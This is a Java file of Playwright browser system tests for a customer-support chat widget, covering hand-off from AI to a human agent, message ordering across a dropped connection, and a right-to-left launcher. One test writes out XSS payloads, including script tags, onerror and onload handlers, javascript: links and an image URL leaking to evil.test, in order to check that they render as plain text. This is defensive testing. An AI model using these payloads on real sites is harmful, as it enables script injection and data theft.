package dev.switchboard.system;

import static org.assertj.core.api.Assertions.assertThat;

import com.microsoft.playwright.Locator;
import com.microsoft.playwright.assertions.PlaywrightAssertions;
import com.microsoft.playwright.options.FilePayload;
import dev.switchboard.chaos.FrontDoor;
import dev.switchboard.suite.Http;
import dev.switchboard.suite.Installation;
import dev.switchboard.suite.RunningSuite;
import dev.switchboard.system.WebBrowser.Look;
import dev.switchboard.system.attack.Corpus;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.List;
import java.util.UUID;
import java.util.stream.IntStream;
import java.util.stream.Stream;
import org.awaitility.Awaitility;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import tools.jackson.databind.JsonNode;

/// The widget in a real browser: the whole way of a visitor, a connection that breaks, and strangers who mean harm.
@ExtendWith({SharedSuite.class, WebBrowser.Shared.class})
class WidgetBrowserSystemTests {
    private static final String QUESTION = "How do I return an item?";
    private static final Duration PATIENCE = Duration.ofSeconds(20);

    private final Installation suite;
    private final WebBrowser browser;
    private final String mark = UUID.randomUUID().toString().substring(0, 8);

    WidgetBrowserSystemTests(RunningSuite running, WebBrowser browser) {
        this.suite = running.installation();
        this.browser = browser;
    }

    @Test
    void aVisitorIsAnsweredByTheAiThenByAPersonAndSaysHowItWas() {
        Desk jane = Desk.logIn(suite, "jane@acme.test");
        try (Tab tab = browser.tab(Look.NARROW)) {
            Widget chat = Widget.open(tab, Widget.address(suite, "&greeting=Hello+" + mark));
            chat.say(QUESTION);
            chat.await(chat.page().locator(".sources"));
            assertThat(chat.page().locator(".sources").innerText()).containsIgnoringCase("return");
            tab.picture("chat-light");

            chat.page().locator(".person").click();
            chat.await(chat.page().locator(".notice").first());
            chat.say("I need help with order " + mark);
            chat.await("order " + mark);
            String conversation = conversationWith("I need help with order " + mark, jane);
            assertThat(jane.answer(conversation, "Hello, this is **Jane**.").status())
                    .isBetween(200, 201);
            chat.await("Hello, this is Jane.");
            assertThat(chat.page().locator(".bubble strong").innerText()).isEqualTo("Jane");
            assertThat(chat.page().locator(".sender").allInnerTexts()).contains("Jane Smith");
            chat.await(chat.page().locator(".is-own .status").last());

            chat.page().reload();
            chat.await("Hello, this is Jane.");
            assertThat(chat.messages()).filteredOn(QUESTION::equals).hasSize(1);
            assertThat(chat.messages()).doesNotHaveDuplicates();

            Http.Answer closed =
                    jane.put("/api/conversations/" + conversation, "{\"conversation\":{\"status\":\"closed\"}}");
            assertThat(closed.status()).as(closed.text()).isEqualTo(200);
            chat.await(chat.page().locator(".csat .face").first());
            tab.assertAccessible();
            chat.page().locator(".csat .face").nth(4).click();
            chat.page().locator(".csat .is-primary").click();
            chat.await(chat.page().locator(".csat .thanks"));
            tab.picture("chat-closed");
            tab.assertClean(suite.http("/"));
        }
    }

    @Test
    void whatIsSaidAndAnsweredWhileTheConnectionIsCutArrivesOnceAndInOrder() {
        Desk jane = Desk.logIn(suite, "jane@acme.test");
        try (FrontDoor door = new FrontDoor(suite);
                Tab tab = browser.tab(Look.NARROW)) {
            Widget chat = Widget.open(tab, Widget.address(door.suite(), ""));
            chat.say("before " + mark);
            String conversation = conversationWith("before " + mark, jane);
            chat.page().locator("textarea").first().pressSequentially("while typing ");
            door.link().cut();
            assertThat(jane.answer(conversation, "meanwhile " + mark).status()).isBetween(200, 201);
            chat.page().locator("textarea").first().pressSequentially(mark);
            chat.page().keyboard().press("Enter");
            IntStream.rangeClosed(1, 3).forEach(i -> chat.say("offline " + i + " " + mark));
            chat.await("offline 3 " + mark);
            // what waits outlives the page
            var _ = chat.page().navigate("about:blank");
            door.link().mend();
            var _ = tab.open(Widget.address(door.suite(), ""));
            chat.await("meanwhile " + mark);
            Awaitility.await()
                    .atMost(PATIENCE)
                    .untilAsserted(() -> assertThat(ownOf(conversation, jane))
                            .containsExactly(
                                    "before " + mark,
                                    "while typing " + mark,
                                    "offline 1 " + mark,
                                    "offline 2 " + mark,
                                    "offline 3 " + mark));
            Awaitility.await()
                    .atMost(PATIENCE)
                    .untilAsserted(() -> assertThat(chat.messages().stream()
                                    .filter(text -> text.endsWith(mark))
                                    .toList())
                            .containsExactly(
                                    "before " + mark,
                                    "meanwhile " + mark,
                                    "while typing " + mark,
                                    "offline 1 " + mark,
                                    "offline 2 " + mark,
                                    "offline 3 " + mark));
        }
    }

    @Test
    void whatStrangersWriteIsShownAsText() {
        Desk jane = Desk.logIn(suite, "jane@acme.test");
        String bomb = "<img src=x onerror=alert(1)>" + mark;
        List<String> payloads = List.of(
                bomb,
                "<script>alert(2)</script>",
                "[click](javascript:alert(3))",
                "![x](https://evil.test/leak?" + mark + ")",
                "<svg/onload=alert(4)>",
                "**bold** <b>no</b> `<i>`",
                "[a](data:text/html,<script>alert(5)</script>)",
                "\"><iframe src=javascript:alert(6)>");
        try (Tab tab = browser.tab(Look.NARROW)) {
            String address =
                    "&title=%3Cimg%20src=x%20onerror=alert(7)%3E&subtitle=%3Csvg/onload=alert(8)%3E&greeting=%3Cscript%3Ealert(9)%3C/script%3E&primaryColor=red;background:url(https://evil.test)";
            Widget chat = Widget.open(tab, Widget.address(suite, address));
            chat.await(chat.page().locator("h1"));
            assertThat(chat.page().locator("h1").innerText()).isEqualTo("<img src=x onerror=alert(7)>");
            chat.page()
                    .locator("input[type=file]")
                    .setInputFiles(new FilePayload(
                            bomb.replace("/", "") + ".txt",
                            "text/plain",
                            "a note of no meaning".getBytes(StandardCharsets.UTF_8)));
            chat.await(chat.page().locator(".chip"));
            Locator send = chat.page().locator(".send:not([disabled])");
            chat.await(send);
            chat.say(bomb);
            String conversation = conversationWith(bomb, jane);
            chat.await(chat.page().locator(".list .file").first());
            for (String payload : payloads) {
                assertThat(jane.answer(conversation, payload).status()).isBetween(200, 201);
            }
            List<String> corpus = Corpus.together("xss", 68);
            for (String several : corpus) {
                assertThat(jane.answer(conversation, several).status()).isBetween(200, 201);
            }
            chat.await("iframe src=javascript");
            chat.await(lastLine(corpus.getLast()));
            assertThat(chat.messages()).contains(bomb, payloads.get(1), payloads.get(2), payloads.get(3));
            assertThat(chat.page()
                            .locator(".list img, .list svg[onload], .list script, .list iframe")
                            .count())
                    .isZero();
            assertThat(chat.page()
                            .locator(".list :is(object, embed, base, meta, [onload], [onerror])")
                            .count())
                    .isZero();
            assertThat(chat.page().locator(".list a").all())
                    .extracting(link -> link.getAttribute("href"))
                    .allMatch(href -> href.startsWith("https://") || href.startsWith("/api/files/"));
            tab.assertClean(suite.http("/"));
        }
    }

    /// In somebody else's page, which reads from right to left and allows no script or style of ours but the loader.
    @Test
    void theLauncherTellsOfNewMessagesInAnyPage() {
        Desk jane = Desk.logIn(suite, "jane@acme.test");
        try (ShopPage shop = ShopPage.around(suite, "ar");
                Tab tab = browser.tab(Look.WIDE.inTheDark().in("ar"))) {
            var page = tab.open(shop.address());
            page.locator("switchboard-chat .launcher").click();
            var frame = page.frameLocator("switchboard-chat iframe");
            Widget around = new Widget(page);
            around.await(frame.locator("html[dir=rtl]"));
            frame.locator("textarea").first().fill("marhaba " + mark);
            frame.locator("textarea").first().press("Enter");
            String conversation = conversationWith("marhaba " + mark, jane);
            tab.picture("launcher-rtl");
            page.locator("switchboard-chat .launcher").click();
            assertThat(jane.answer(conversation, "ahlan").status()).isBetween(200, 201);
            around.await(page.locator("switchboard-chat .badge"));
            around.await(page.locator("switchboard-chat .teaser"));
            // colours count once it has faded in
            Awaitility.await()
                    .atMost(PATIENCE)
                    .until(() -> page.locator("switchboard-chat .teaser")
                            .evaluate(
                                    "e => (e.closest('.note') ?? e).getAnimations({subtree: true}).every(a => a.playState !== 'running')")
                            .equals(true));
            tab.assertAccessible();
            page.locator("switchboard-chat .teaser").click();
            around.await(frame.locator(".bubble").filter(new Locator.FilterOptions().setHasText("ahlan")));
            Awaitility.await()
                    .atMost(PATIENCE)
                    .until(() -> !page.locator("switchboard-chat .badge").isVisible());
            assertThat(tab.takeTroubles()).isEmpty();
        }
    }

    /// The picture of the README: `-Dswitchboard.screenshots=docs/images`.
    @Test
    void theDemoAsksTheShopsChat() {
        try (Tab tab = browser.tab(new Look(980, 760, false, "en-US"))) {
            var page = tab.open(suite.http("/demo"));
            page.locator("[data-ask='" + QUESTION + "']").click();
            var frame = page.frameLocator("switchboard-chat iframe");
            new Widget(page).await(frame.locator(".greeting"));
            PlaywrightAssertions.assertThat(frame.locator("textarea")).hasValue(QUESTION);
            frame.locator("textarea").press("Enter");
            new Widget(page).await(frame.locator(".sources"));
            tab.picture("widget");
            tab.assertAccessible();
            tab.assertClean(suite.http("/"));
        }
    }

    private static String lastLine(String text) {
        return text.substring(text.lastIndexOf('\n') + 1);
    }

    private String conversationWith(String text, Desk desk) {
        return Awaitility.await()
                .atMost(PATIENCE)
                .until(
                        () -> conversations(desk)
                                .filter(each -> each.path("messages")
                                        .valueStream()
                                        .anyMatch(message ->
                                                message.path("body").asString().equals(text)))
                                .map(each -> each.path("id").asString())
                                .findFirst()
                                .orElse(""),
                        found -> !found.isEmpty());
    }

    private static Stream<JsonNode> conversations(Desk desk) {
        return desk.conversations()
                .valueStream()
                .limit(5)
                .map(each ->
                        desk.conversation(each.path("id").asString()).json().path("data"));
    }

    private static List<String> ownOf(String conversation, Desk desk) {
        return desk.conversation(conversation)
                .json()
                .path("data")
                .path("messages")
                .valueStream()
                .filter(message -> message.path("sender_type").asString().equals("customer"))
                .map(message -> message.path("body").asString())
                .toList();
    }
}
